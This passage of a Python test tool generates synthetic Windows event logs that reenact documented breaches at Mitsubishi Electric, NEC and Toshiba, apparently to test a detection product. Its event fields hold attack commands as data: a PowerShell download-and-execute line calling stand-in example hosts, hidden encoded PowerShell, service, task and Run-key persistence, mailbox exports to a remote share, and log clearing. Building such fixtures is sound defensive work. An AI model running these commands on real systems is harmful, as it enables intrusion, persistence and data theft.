#!/usr/bin/env python3
"""make_scenario.py - seeded generator of the five documented breaches as Windows event logs.

  python3 tests/tools/make_scenario.py --scenario {mitsubishi,nec,toshiba,mksystem,oki,all}
          --seed N OUTDIR [--background none|DIR_OR_FILE]... [--background-per-host N]
          [--shapes evtx,evtx_dump,winlogbeat7,winlogbeat6,nxlog,flat]
          [--drop-step KEY]... [--foothold HOST-INDEX]

Each scenario follows shared/docs/incidents-and-scenarios.md: every attack step becomes the
events listed there (channel, provider, event id, EventData/UserData names as Windows writes
them), on hosts, accounts, addresses and times drawn from the seed. Benign background events
are taken from real EVTX (dumped with `kizuki dump -q`) and moved onto the scenario's hosts and
time frame. Output (see tests/tools/README.md, "make_scenario.py"):
  OUTDIR/<scenario>/evtx/<HOST>/<Channel>.evtx   one file per (host, channel)
  OUTDIR/<scenario>/json/<shape>.jsonl           on request, the same events
  OUTDIR/<scenario>/truth.json                   ground truth
The same arguments give byte-identical output. Standard library + evtx_writer only.
"""
import argparse
import json
import os
import random
import subprocess
import sys
from datetime import datetime, timedelta, timezone

HERE = os.path.dirname(os.path.abspath(__file__))
TOP = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, HERE)
import evtx_writer as W  # noqa: E402
import make_examples as MX  # noqa: E402  (JSON shape converters)

SCENARIOS = ("mitsubishi", "nec", "toshiba", "mksystem", "oki")
SHAPES = ("evtx", "evtx_dump", "winlogbeat7", "winlogbeat6", "nxlog", "flat")
EVENT_NS = "http://schemas.microsoft.com/win/2004/08/events/event"

SEC, SA = "Security", "Microsoft-Windows-Security-Auditing"
SYSM, SM = "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon"
SYSTEM, SCM = "System", "Service Control Manager"
PSOP, PSP = "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell"
RCM = "Microsoft-Windows-TerminalServices-RemoteConnectionManager"
LSM = "Microsoft-Windows-TerminalServices-LocalSessionManager"
DEF = "Microsoft-Windows-Windows Defender"
ELOG = "Microsoft-Windows-Eventlog"

GUIDS = {
    SA: "{54849625-5478-4994-A5BA-3E3B0328C30D}",
    SM: "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
    SCM: "{555908D1-A6D7-4695-8E1E-26931D2012F4}",
    ELOG: "{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}",
    RCM: "{C76BAA63-AE81-421C-B425-340B4B24157F}",
    LSM: "{5D896912-022D-40AA-A3A8-4FA5515C76D7}",
    PSP: "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}",
    DEF: "{11CD958A-C507-4EF3-B3F2-5FD9DFBD2C78}",
    "Microsoft-Windows-RestartManager": "{0888E5EF-9B98-4695-979D-E92CE4247224}",
    "Microsoft-Windows-TaskScheduler": "{DE7B24EA-73C8-4A09-985D-5BDADCFA9017}",
    "MSExchange CmdletLogs": None,
    "PowerShell": None,
}
# Security task categories by event id (Windows' values)
SEC_TASK = {4624: 12544, 4625: 12544, 4634: 12545, 4648: 12544, 4672: 12548, 4688: 13312,
            4697: 12289, 4698: 12804, 4720: 13824, 4728: 13826, 4732: 13826, 4756: 13826,
            4663: 12800, 5140: 12808, 5145: 12811}

SURNAMES = ["sato", "suzuki", "takahashi", "tanaka", "watanabe", "ito", "yamamoto",
            "nakamura", "kobayashi", "kato", "yoshida", "yamada", "sasaki", "yamaguchi",
            "matsumoto", "inoue", "kimura", "hayashi", "shimizu", "yamazaki", "mori", "abe",
            "ikeda", "hashimoto", "ishikawa", "ogawa", "okada", "goto", "hasegawa", "murakami"]
DOMAINS = ["CORP", "KAISHA", "HONSHA", "SANGYO", "DENKI", "SEISAKU", "TECHNO", "NIPPONSYS"]


def iso(t):
    """datetime (UTC) -> SystemTime text with 7 fraction digits."""
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%06d0Z" % t.microsecond


class World(object):
    """Seeded names, addresses and the event list of one scenario."""

    def __init__(self, scenario, seed, foothold=None):
        self.scenario = scenario
        self.rng = random.Random("%s:%d" % (scenario, seed))
        r = self.rng
        self.domain = r.choice(DOMAINS)
        self.fqdn = self.domain.lower() + r.choice([".local", ".internal", ".corp.jp"])
        self.dsid = "S-1-5-21-%d-%d-%d" % (r.randint(10 ** 9, 4 * 10 ** 9 - 1),
                                          r.randint(10 ** 9, 4 * 10 ** 9 - 1),
                                          r.randint(10 ** 8, 4 * 10 ** 9 - 1))
        self.net = "10.%d.%d." % (r.randint(1, 250), r.randint(0, 250))
        self.hosts = []          # [{name, fqdn, ip, role}]
        self.accounts = []       # [{name, sid, role}]
        self.used_names = set()
        self.used_ips = set()
        self.events = []         # [(step key or None, event json)]
        self.steps = []
        self.foothold = foothold
        self.logon_ids = set()

    # ---- names
    def host(self, role, prefixes, net=None):
        r = self.rng
        while True:
            name = "%s%s" % (r.choice(prefixes), "%02d" % r.randint(1, 99)
                             if r.random() < 0.5 else "-%03d" % r.randint(1, 999))
            if name not in self.used_names:
                break
        self.used_names.add(name)
        net = net or self.net
        while True:
            ip = net + str(r.randint(10, 250))
            if ip not in self.used_ips:
                break
        self.used_ips.add(ip)
        h = {"name": name, "fqdn": name + "." + self.fqdn, "ip": ip, "role": role}
        self.hosts.append(h)
        return h

    def subnet(self, first=None):
        r = self.rng
        return "%d.%d.%d." % (first or r.choice([10, 172]), r.randint(16, 31) if first == 172
                              else r.randint(1, 250), r.randint(0, 250))

    def public_ip(self):
        r = self.rng
        return "%s%d" % (r.choice(["203.0.113.", "198.51.100.", "192.0.2."]), r.randint(2, 254))

    def account(self, role, admin=False):
        r = self.rng
        while True:
            name = r.choice("abcdefghikmnorstuy") + "." + r.choice(SURNAMES)
            if admin:
                name = r.choice(["adm_", "admin-", "sa_"]) + name.split(".")[1]
            if name not in self.used_names:
                break
        self.used_names.add(name)
        a = {"name": name, "sid": "%s-%d" % (self.dsid, r.randint(1100, 29999)),
             "domain": self.domain, "role": role}
        self.accounts.append(a)
        return a

    def logon_id(self):
        while True:
            x = "0x%x" % self.rng.randint(0x100000, 0x9fffffff)
            if x not in self.logon_ids:
                self.logon_ids.add(x)
                return x

    def guid(self):
        r = self.rng
        return "{%08X-%04X-%04X-%04X-%012X}" % (r.getrandbits(32), r.getrandbits(16),
                                                 r.getrandbits(16), r.getrandbits(16),
                                                 r.getrandbits(48))

    def sha256(self):
        return "%064X" % self.rng.getrandbits(256)

    def pid(self):
        return self.rng.randint(1000, 15000) & ~3

    # ---- steps and events
    def step(self, key, technique, host, account, t, fn):
        """Record one attack step; fn(emit) produces its events."""
        st = {"key": key, "technique": technique, "host": host["name"],
              "account": account["name"] if isinstance(account, dict) else account,
              "time": iso(t), "events": []}
        self.steps.append(st)

        def emit(ev):
            self.events.append((key, ev))
        fn(emit)
        return st

    def ev(self, host, t, channel, provider, eid, data=None, userdata=None, qualifiers=None,
           level=None, task=None, opcode=0, keywords=None, user=None, version=0):
        if channel == SEC and provider == SA:
            task = SEC_TASK.get(eid, 0) if task is None else task
            level = 0 if level is None else level
            if keywords is None:
                keywords = "0x8010000000000000" if eid == 4625 else "0x8020000000000000"
            pid, tid = 684, 700 + (eid % 97) * 4
        else:
            pid, tid = 1000 + (eid % 400) * 4, 2000 + (eid % 300) * 4
        system = {
            "Provider": {"#attributes": {"Name": provider}},
            "EventID": eid if qualifiers is None else
            {"#attributes": {"Qualifiers": qualifiers}, "#text": eid},
            "Version": version, "Level": 4 if level is None else level,
            "Task": 0 if task is None else task, "Opcode": opcode,
            "Keywords": keywords or "0x8000000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": iso(t)}},
            "EventRecordID": 0,
            "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": pid, "ThreadID": tid}},
            "Channel": channel,
            "Computer": host["fqdn"],
            "Security": {"#attributes": {"UserID": user}} if user else None,
        }
        if GUIDS.get(provider):
            system["Provider"]["#attributes"]["Guid"] = GUIDS[provider]
        ev = {"Event": {"#attributes": {"xmlns": EVENT_NS}, "System": system}}
        if data is not None:
            ev["Event"]["EventData"] = data
        if userdata is not None:
            ev["Event"]["UserData"] = userdata
        return ev

    # ---- common event builders
    def e4624(self, host, t, acct, ltype, ip, src_name="-", pkg="Negotiate", lid=None):
        proc = "C:\\Windows\\System32\\svchost.exe" if ltype == 10 else "-"
        return self.ev(host, t, SEC, SA, 4624, version=2, data={
            "SubjectUserSid": "S-1-5-18" if ltype == 10 else "S-1-0-0",
            "SubjectUserName": host["name"] + "$" if ltype == 10 else "-",
            "SubjectDomainName": self.domain if ltype == 10 else "-",
            "SubjectLogonId": "0x3e7" if ltype == 10 else "0x0",
            "TargetUserSid": acct["sid"], "TargetUserName": acct["name"],
            "TargetDomainName": self.domain, "TargetLogonId": lid or self.logon_id(),
            "LogonType": ltype,
            "LogonProcessName": "User32 " if ltype == 10 else "NtLmSsp ",
            "AuthenticationPackageName": pkg, "WorkstationName": src_name,
            "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
            "TransmittedServices": "-", "LmPackageName": "NTLM V2" if pkg == "NTLM" else "-",
            "KeyLength": 128 if pkg == "NTLM" else 0,
            "ProcessId": "0x%x" % (0x3a0 if ltype == 10 else 0), "ProcessName": proc,
            "IpAddress": ip, "IpPort": str(self.rng.randint(49152, 65000)),
            "ImpersonationLevel": "%%1833", "RestrictedAdminMode": "-",
            "TargetOutboundUserName": "-", "TargetOutboundDomainName": "-",
            "VirtualAccount": "%%1843", "TargetLinkedLogonId": "0x0",
            "ElevatedToken": "%%1842"})

    def e4648(self, host, t, acct, target_acct, server, ip):
        return self.ev(host, t, SEC, SA, 4648, data={
            "SubjectUserSid": acct["sid"], "SubjectUserName": acct["name"],
            "SubjectDomainName": self.domain, "SubjectLogonId": self.logon_id(),
            "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
            "TargetUserName": target_acct["name"], "TargetDomainName": self.domain,
            "TargetLogonGuid": "{00000000-0000-0000-0000-000000000000}",
            "TargetServerName": server, "TargetInfo": server, "ProcessId": "0x4",
            "ProcessName": "", "IpAddress": ip, "IpPort": "445"})

    def e4672(self, host, t, acct, lid):
        return self.ev(host, t, SEC, SA, 4672, data={
            "SubjectUserSid": acct["sid"], "SubjectUserName": acct["name"],
            "SubjectDomainName": self.domain, "SubjectLogonId": lid,
            "PrivilegeList": "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\t"
                             "SeRestorePrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\t"
                             "SeDebugPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\t"
                             "SeLoadDriverPrivilege\r\n\t\t\tSeImpersonatePrivilege"})

    def e5140(self, host, t, acct, ip, share, path):
        return self.ev(host, t, SEC, SA, 5140, version=1, data={
            "SubjectUserSid": acct["sid"], "SubjectUserName": acct["name"],
            "SubjectDomainName": self.domain, "SubjectLogonId": self.logon_id(),
            "ObjectType": "File", "IpAddress": ip, "IpPort": str(self.rng.randint(49152, 65000)),
            "ShareName": "\\\\*\\" + share, "ShareLocalPath": "\\??\\" + path,
            "AccessMask": "0x1", "AccessList": "%%4416\r\n\t\t\t\t"})

    def e5145(self, host, t, acct, ip, share, path, rel, mask="0x1"):
        return self.ev(host, t, SEC, SA, 5145, data={
            "SubjectUserSid": acct["sid"], "SubjectUserName": acct["name"],
            "SubjectDomainName": self.domain, "SubjectLogonId": self.logon_id(),
            "ObjectType": "File", "IpAddress": ip, "IpPort": str(self.rng.randint(49152, 65000)),
            "ShareName": "\\\\*\\" + share, "ShareLocalPath": "\\??\\" + path,
            "RelativeTargetName": rel, "AccessMask": mask,
            "AccessList": "%%4416\r\n\t\t\t\t" if mask == "0x1" else "%%4417\r\n\t\t\t\t",
            "AccessReason": "-"})

    def sysmon1(self, host, t, acct, image, cmd, parent, parent_cmd, ofn, desc,
                integrity="High", hashes=None):
        return self.ev(host, t, SYSM, SM, 1, task=1, version=5, user="S-1-5-18", data={
            "RuleName": "-", "UtcTime": iso(t)[:23].replace("T", " "),
            "ProcessGuid": self.guid(), "ProcessId": self.pid(), "Image": image,
            "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)", "Description": desc,
            "Product": "Microsoft\u00ae Windows\u00ae Operating System" if ofn.lower() in (
                "powershell.exe", "cmd.exe", "vssadmin.exe", "wbadmin.exe", "bcdedit.exe",
                "net.exe") else desc,
            "Company": "Microsoft Corporation", "OriginalFileName": ofn, "CommandLine": cmd,
            "CurrentDirectory": "C:\\Windows\\system32\\",
            "User": "%s\\%s" % (self.domain, acct["name"]) if isinstance(acct, dict) else acct,
            "LogonGuid": self.guid(), "LogonId": self.logon_id(), "TerminalSessionId": 2,
            "IntegrityLevel": integrity,
            "Hashes": hashes or "SHA256=" + self.sha256(),
            "ParentProcessGuid": self.guid(), "ParentProcessId": self.pid(),
            "ParentImage": parent, "ParentCommandLine": parent_cmd,
            "ParentUser": "%s\\%s" % (self.domain, acct["name"]) if isinstance(acct, dict)
            else acct})

    def e4688(self, host, t, acct, image, cmd, parent):
        return self.ev(host, t, SEC, SA, 4688, version=2, data={
            "SubjectUserSid": acct["sid"], "SubjectUserName": acct["name"],
            "SubjectDomainName": self.domain, "SubjectLogonId": self.logon_id(),
            "NewProcessId": "0x%x" % self.pid(), "NewProcessName": image,
            "TokenElevationType": "%%1937", "ProcessId": "0x%x" % self.pid(),
            "CommandLine": cmd, "TargetUserSid": "S-1-0-0", "TargetUserName": "-",
            "TargetDomainName": "-", "TargetLogonId": "0x0", "ParentProcessName": parent,
            "MandatoryLabel": "S-1-16-12288"})

    def e7045(self, host, t, acct, name, path, stype="user mode service",
              start="demand start"):
        return self.ev(host, t, SYSTEM, SCM, 7045, qualifiers=16384, keywords="0x8080000000000000",
                       user=acct["sid"] if isinstance(acct, dict) else acct, data={
                           "ServiceName": name, "ImagePath": path, "ServiceType": stype,
                           "StartType": start, "AccountName": "LocalSystem"})

    def sysmon3(self, host, t, image, acct, dst_ip, dst_name, port=443):
        return self.ev(host, t, SYSM, SM, 3, task=3, version=5, user="S-1-5-18", data={
            "RuleName": "-", "UtcTime": iso(t)[:23].replace("T", " "),
            "ProcessGuid": self.guid(), "ProcessId": self.pid(), "Image": image,
            "User": "%s\\%s" % (self.domain, acct["name"]), "Protocol": "tcp",
            "Initiated": True, "SourceIsIpv6": False, "SourceIp": host["ip"],
            "SourceHostname": host["fqdn"], "SourcePort": self.rng.randint(49152, 65000),
            "SourcePortName": "-", "DestinationIsIpv6": False, "DestinationIp": dst_ip,
            "DestinationHostname": dst_name, "DestinationPort": port,
            "DestinationPortName": "https" if port == 443 else "-"})

    def sysmon22(self, host, t, image, acct, qname, answer):
        return self.ev(host, t, SYSM, SM, 22, task=22, version=5, user="S-1-5-18", data={
            "RuleName": "-", "UtcTime": iso(t)[:23].replace("T", " "),
            "ProcessGuid": self.guid(), "ProcessId": self.pid(), "QueryName": qname,
            "QueryStatus": "0", "QueryResults": "::ffff:%s;" % answer, "Image": image,
            "User": "%s\\%s" % (self.domain, acct["name"])})

    def sysmon11(self, host, t, image, target, user):
        return self.ev(host, t, SYSM, SM, 11, task=11, version=2, user="S-1-5-18", data={
            "RuleName": "-", "UtcTime": iso(t)[:23].replace("T", " "),
            "ProcessGuid": self.guid(), "ProcessId": self.pid(), "Image": image,
            "TargetFilename": target, "CreationUtcTime": iso(t)[:23].replace("T", " "),
            "User": user})

    def e1102(self, host, t, acct):
        return self.ev(host, t, SEC, ELOG, 1102, task=104, keywords="0x4020000000000000",
                       userdata={"LogFileCleared": {"#attributes": {
                           "xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"},
                           "SubjectUserSid": acct["sid"], "SubjectUserName": acct["name"],
                           "SubjectDomainName": self.domain,
                           "SubjectLogonId": self.logon_id()}})

    def e104(self, host, t, acct):
        return self.ev(host, t, SYSTEM, ELOG, 104, task=104, keywords="0x8000000000000000",
                       userdata={"LogFileCleared": {"#attributes": {
                           "xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"},
                           "SubjectUserName": acct["name"], "SubjectDomainName": self.domain,
                           "Channel": "System", "BackupPath": ""}})

    def e4104(self, host, t, acct, text):
        return self.ev(host, t, PSOP, PSP, 4104, level=5, task=2, opcode=15, version=1,
                       keywords="0x0", user=acct["sid"], data={
                           "MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": text,
                           "ScriptBlockId": self.guid()[1:-1].lower(), "Path": ""})


def at(base, minutes, jitter_s=50, rng=None):
    """base + minutes, plus a seeded jitter in seconds and microseconds."""
    return base + timedelta(minutes=minutes, seconds=rng.randint(0, jitter_s),
                            microseconds=rng.randint(0, 999999))


def pick_foothold(w, candidates):
    # always draw, so that --foothold changes nothing but the foothold
    i = w.rng.randrange(len(candidates))
    if w.foothold is not None:
        i = w.foothold
    if not 0 <= i < len(candidates):
        raise SystemExit("--foothold %d: this scenario has %d candidates (0..%d)"
                         % (i, len(candidates), len(candidates) - 1))
    fh = candidates[i]
    fh["role"] = "first foothold"
    return fh


# ------------------------------------------------------------------------------------------
# 1 Mitsubishi Electric (2019)

def scen_mitsubishi(w):
    r = w.rng
    cn_net = w.subnet(172)
    av_cn = w.host("AV management server (China site, OfficeScan)", ["CNAVSV", "SHAV"], cn_net)
    av_jp = w.host("AV management server (Japan site)", ["JPAVSV", "OSCESV"])
    cands = [w.host("workstation (Japan)", ["PC", "WS", "NB"]) for _ in range(3)]
    fh = pick_foothold(w, cands)
    svc = w.account("OfficeScan service account", admin=True)
    user = w.account("employee on the foothold")
    attacker_ip = w.public_ip()
    base = datetime(2019, 4, 3, 1, 0, tzinfo=timezone.utc) + timedelta(
        minutes=r.randint(0, 600))
    osce = "C:\\Program Files (x86)\\Trend Micro\\OfficeScan\\PCCSRV"
    payload = "%s\\Web\\Service\\Download\\%s.exe" % (osce, r.choice(["upd", "ptn", "hotfix"]))
    t0 = at(base, 0, rng=r)

    def s1(emit):
        emit(w.sysmon11(av_cn, t0, "C:\\Windows\\System32\\inetsrv\\w3wp.exe", payload,
                        "IIS APPPOOL\\OfficeScan"))
        t = t0 + timedelta(seconds=r.randint(20, 90))
        cmd = "cmd.exe /c \"%s\"" % payload
        emit(w.sysmon1(av_cn, t, "IIS APPPOOL\\OfficeScan", "C:\\Windows\\System32\\cmd.exe", cmd,
                       "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
                       "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"OfficeScan\"",
                       "Cmd.Exe", "Windows Command Processor"))
    w.step("mitsubishi.av_console_exploit", "T1190 (CVE-2019-18187); webshell child of w3wp",
           av_cn, svc, t0, s1)

    t1 = at(base, r.randint(30, 60), rng=r)
    dropped = "C:\\Program Files (x86)\\Trend Micro\\OfficeScan Client\\Temp\\%s.exe" % (
        r.choice(["tmupd", "pccupd", "ofcdl"]))

    def s2(emit):
        for i, h in enumerate([fh] + [c for c in cands if c is not fh]):
            t = t1 + timedelta(seconds=7 * i + r.randint(0, 5))
            emit(w.sysmon11(h, t, "C:\\Program Files (x86)\\Trend Micro\\OfficeScan Client\\"
                            "TmListen.exe", dropped, "NT AUTHORITY\\SYSTEM"))
    w.step("mitsubishi.update_push", "D4 management-channel fan-out; T1072", fh, "SYSTEM", t1, s2)

    t2 = at(t1, r.randint(5, 20), rng=r)
    url = "https://%s/%s" % (r.choice(["cdn-upd.example.net", "files.example.org"]),
                             r.choice(["a.txt", "p.ps1", "img.png"]))

    def s3(emit):
        emit(w.e4688(fh, t2, user, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                     "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
                     dropped))
        emit(w.e4104(fh, t2 + timedelta(seconds=1), user,
                     "IEX (New-Object Net.WebClient).DownloadString('%s')" % url))
    w.step("mitsubishi.fileless_powershell", "T1059.001 fileless PowerShell", fh, user, t2, s3)

    t3 = at(t2, r.randint(2, 10), rng=r)
    fake = "C:\\Users\\%s\\AppData\\Roaming\\Google\\chrome.exe" % user["name"]

    def s4(emit):
        emit(w.sysmon1(fh, t3, user, fake, "chrome.exe -nop -w hidden -c \"$s=...\"",
                       "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
                       "PowerShell.EXE", "Windows PowerShell"))
        emit(w.ev(fh, t3 + timedelta(seconds=1), "Windows PowerShell", "PowerShell", 400,
                  qualifiers=0, task=4, keywords="0x80000000000000", data={"Data": [
                      "Available", "None",
                      "\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n\t"
                      "HostName=ConsoleHost\r\n\tHostVersion=5.1.19041.1\r\n\tHostApplication="
                      "%s -nop -w hidden\r\n\tEngineVersion=5.1.19041.1" % fake]}))
    w.step("mitsubishi.renamed_powershell", "T1036.003; D5 browser name outside its path",
           fh, user, t3, s4)

    t4 = at(t3, 1, rng=r)
    period = r.choice([60, 120, 300])

    def s5(emit):
        for i in range(r.randint(6, 10)):
            t = t4 + timedelta(seconds=period * i + r.randint(0, 3))
            name = ["www.googleapis.com", "content.dropboxapi.com"][i % 2]
            ip = ["142.250.%d.%d", "162.125.%d.%d"][i % 2] % (r.randint(1, 250), r.randint(1, 250))
            emit(w.sysmon22(fh, t, fake, user, name, ip))
            emit(w.sysmon3(fh, t + timedelta(milliseconds=80), fake, user, ip, name))
    w.step("mitsubishi.cloud_c2", "T1102 web service C2; D6 beaconing", fh, user, t4, s5)

    t5 = at(base, r.randint(300, 400), rng=r)

    def s6(emit):
        emit(w.e4648(av_cn, t5, svc, svc, av_jp["fqdn"], av_jp["ip"]))
        lid = w.logon_id()
        emit(w.e4624(av_jp, t5 + timedelta(seconds=1), svc, 3, av_cn["ip"], av_cn["name"],
                     "NTLM", lid))
        emit(w.e5140(av_jp, t5 + timedelta(seconds=2), svc, av_cn["ip"], "C$", "C:\\"))
    w.step("mitsubishi.cross_site_logon", "D9 new cross-site edge; T1021.002", av_jp, svc, t5, s6)

    t6 = at(base, r.randint(600, 700), rng=r)

    def s7(emit):
        emit(w.ev(fh, t6, DEF + "/Operational", DEF, 1116, level=3, keywords="0x8000000000000000",
                  user="S-1-5-18", data={
                      "Product Name": "Microsoft Defender Antivirus",
                      "Product Version": "4.18.1906.3", "Detection ID": w.guid(),
                      "Detection Time": iso(t6)[:23] + "Z", "Threat ID": str(r.randint(2**31, 2**32)),
                      "Threat Name": "Behavior:Win32/PowerShellSuspicious.A",
                      "Severity ID": "5", "Severity Name": "Severe",
                      "Category ID": "46", "Category Name": "Suspicious Behavior",
                      "FWLink": "https://go.microsoft.com/fwlink/?linkid=37020",
                      "Status Code": "1", "Source ID": "2", "Source Name": "Real-Time Protection",
                      "Process Name": fake, "Detection User": "%s\\%s" % (w.domain, user["name"]),
                      "Path": "behavior:_process: %s, pid:%d" % (fake, w.pid()),
                      "Origin ID": "1", "Origin Name": "Local machine",
                      "Execution ID": "1", "Execution Name": "Suspended",
                      "Type ID": "0", "Type Name": "Concrete",
                      "Action ID": "9", "Action Name": "Not Applicable"}))
    w.step("mitsubishi.av_detection", "D14 AV detection pivot", fh, user, t6, s7)

    t7 = at(t6, r.randint(-90, -30), rng=r)

    def s8(emit):
        emit(w.e1102(av_jp, t7, svc))
        emit(w.e104(fh, t7 + timedelta(seconds=r.randint(30, 90)), user))
    w.step("mitsubishi.log_cleared", "T1070.001; D11 log gap", av_jp, svc, t7, s8)


# ------------------------------------------------------------------------------------------
# 2 NEC (2016-2018)

def scen_nec(w):
    r = w.rng
    sub_net = w.subnet(172)
    cands = [w.host("subsidiary PC", ["SUBPC", "KOGAISHA"], sub_net) for _ in range(3)]
    fh = pick_foothold(w, cands)
    hq = w.host("head-office server", ["HQSV", "APSV"])
    share = w.host("defence-division information-sharing server ('intermediate')",
                   ["SHRSV", "CHUKAN"])
    user = w.account("subsidiary user (stolen)")
    base = datetime(2016, 12, 5, 1, 0, tzinfo=timezone.utc) + timedelta(minutes=r.randint(0, 600))
    t0 = at(base, 0, rng=r)

    def s1(emit):
        emit(w.e4648(fh, t0, user, user, hq["fqdn"], hq["ip"]))
        emit(w.e4624(hq, t0 + timedelta(seconds=1), user, 3, fh["ip"], fh["name"], "NTLM"))
    w.step("nec.subsidiary_logon", "D9 entity-zone edge; T1078", hq, user, t0, s1)

    implant = "C:\\ProgramData\\%s\\%s.exe" % (r.choice(["Intel", "Adobe", "Java"]),
                                              r.choice(["svchost", "igfxupd", "jusched"]))
    t1 = at(t0, r.randint(5, 30), rng=r)
    sname = r.choice(["WinUpdSvc", "IntelGfxSvc", "JavaSched"])

    def s2(emit):
        emit(w.e7045(hq, t1, user, sname, implant, start="auto start"))
        emit(w.ev(hq, t1, SEC, SA, 4697, data={
            "SubjectUserSid": user["sid"], "SubjectUserName": user["name"],
            "SubjectDomainName": w.domain, "SubjectLogonId": w.logon_id(),
            "ServiceName": sname, "ServiceFileName": implant, "ServiceType": "0x10",
            "ServiceStartType": "2", "ServiceAccount": "LocalSystem"}))
    w.step("nec.service_persistence", "T1543.003; D12 rare autostart", hq, user, t1, s2)

    t2 = at(t1, r.randint(2, 10), rng=r)
    tname = "\\Microsoft\\Windows\\%s" % r.choice(["UpdateCheck", "SyncTask", "Telemetry2"])

    def s3(emit):
        emit(w.ev(hq, t2, SEC, SA, 4698, data={
            "SubjectUserSid": user["sid"], "SubjectUserName": user["name"],
            "SubjectDomainName": w.domain, "SubjectLogonId": w.logon_id(), "TaskName": tname,
            "TaskContent": "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" "
                           "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">"
                           "<Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger>"
                           "</Triggers><Actions Context=\"Author\"><Exec><Command>%s</Command>"
                           "</Exec></Actions></Task>" % implant}))
    w.step("nec.task_persistence", "T1053.005; D12", hq, user, t2, s3)

    t3 = at(t2, r.randint(1, 5), rng=r)

    def s4(emit):
        emit(w.ev(hq, t3, SYSM, SM, 13, task=13, version=2, user="S-1-5-18", data={
            "RuleName": "-", "EventType": "SetValue", "UtcTime": iso(t3)[:23].replace("T", " "),
            "ProcessGuid": w.guid(), "ProcessId": w.pid(),
            "Image": "C:\\Windows\\system32\\reg.exe",
            "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\%s" % sname,
            "Details": implant, "User": "%s\\%s" % (w.domain, user["name"])}))
    w.step("nec.run_key", "T1547.001; D12", hq, user, t3, s4)

    t4 = at(t3, r.randint(30, 120), rng=r)
    c2 = r.choice(["update.%s-cdn.example.com", "news.%s-portal.example.net"]) % r.choice(
        ["asia", "jp", "global"])
    c2ip = w.public_ip()

    def s5(emit):
        for i in range(r.randint(5, 8)):
            t = t4 + timedelta(seconds=3600 * i + r.randint(0, 30))
            emit(w.sysmon22(hq, t, implant, user, c2, c2ip))
            emit(w.sysmon3(hq, t + timedelta(milliseconds=50), implant, user, c2ip, c2))
    w.step("nec.c2_beacon", "D7 IOC retro-hunt; T1071.001", hq, user, t4, s5)

    t5 = at(t4, r.randint(600, 900), rng=r)
    docs = ["\\".join([r.choice(["projects", "defense", "specs", "minutes"]),
                       "%s_%03d.%s" % (r.choice(["design", "spec", "meeting", "plan"]), i,
                                       r.choice(["docx", "pdf", "xlsx", "pptx"]))])
            for i in range(r.randint(40, 80))]

    def s6(emit):
        emit(w.e5140(share, t5, user, hq["ip"], "share", "D:\\share"))
        for i, d in enumerate(docs):
            emit(w.e5145(share, t5 + timedelta(seconds=1 + i * 2, milliseconds=r.randint(0, 900)),
                         user, hq["ip"], "share", "D:\\share", d))
    w.step("nec.bulk_share_read", "D8 bulk read per principal; T1039", share, user, t5, s6)

    t6 = at(t5, r.randint(30, 60), rng=r)
    w.step("nec.log_cleared", "T1070.001; D11", share, user, t6,
           lambda emit: emit(w.e1102(share, t6, user)))


# ------------------------------------------------------------------------------------------
# 3 Toshiba (2018-02)

def scen_toshiba(w):
    r = w.rng
    vnet = w.subnet(172)
    cands = [w.host("outsourced vendor host / monitoring server", ["VNDMON", "OPSV"], vnet)
             for _ in range(2)]
    fh = pick_foothold(w, cands)
    mail = w.host("Exchange mail server", ["EXCH", "MAILSV"])
    w.host("mail replica peer", ["EXCH", "MAILDR"])
    vendor = w.account("vendor operator")
    admin = w.account("mail administrator (stolen)", admin=True)
    victims = [w.account("mailbox owner") for _ in range(r.randint(6, 10))]
    base = datetime(2018, 2, 13, 12, 0, tzinfo=timezone.utc) + timedelta(minutes=r.randint(0, 300))
    t0 = at(base, 0, rng=r)

    def s1(emit):
        emit(w.e4648(fh, t0, vendor, admin, mail["fqdn"], mail["ip"]))
        emit(w.e4624(mail, t0 + timedelta(seconds=2), admin, 10, fh["ip"], fh["name"]))
    w.step("toshiba.vendor_explicit_creds", "D9 allowed-edge violation; T1078", mail, admin,
           t0, s1)

    t1 = at(t0, r.randint(5, 20), rng=r)
    pst = "\\\\%s\\pst$" % fh["name"]

    def s2(emit):
        for i, v in enumerate(victims):
            t = t1 + timedelta(seconds=40 * i + r.randint(0, 20))
            cmd = "New-MailboxExportRequest -Mailbox %s -FilePath %s\\%s.pst" % (
                v["name"], pst, v["name"])
            emit(w.e4104(mail, t, admin, cmd))
            emit(w.ev(mail, t + timedelta(seconds=1), "MSExchange Management",
                      "MSExchange CmdletLogs", 1, qualifiers=16388, task=1,
                      keywords="0x80000000000000", data={"Data": [
                          "New-MailboxExportRequest", "{-Mailbox=%s, -FilePath=%s\\%s.pst}" % (
                              v["name"], pst, v["name"]),
                          "%s/Users/%s" % (w.fqdn, admin["name"]), "", "", "", "", "Local",
                          "-", "-", "-", "-", "-", "-"]}))
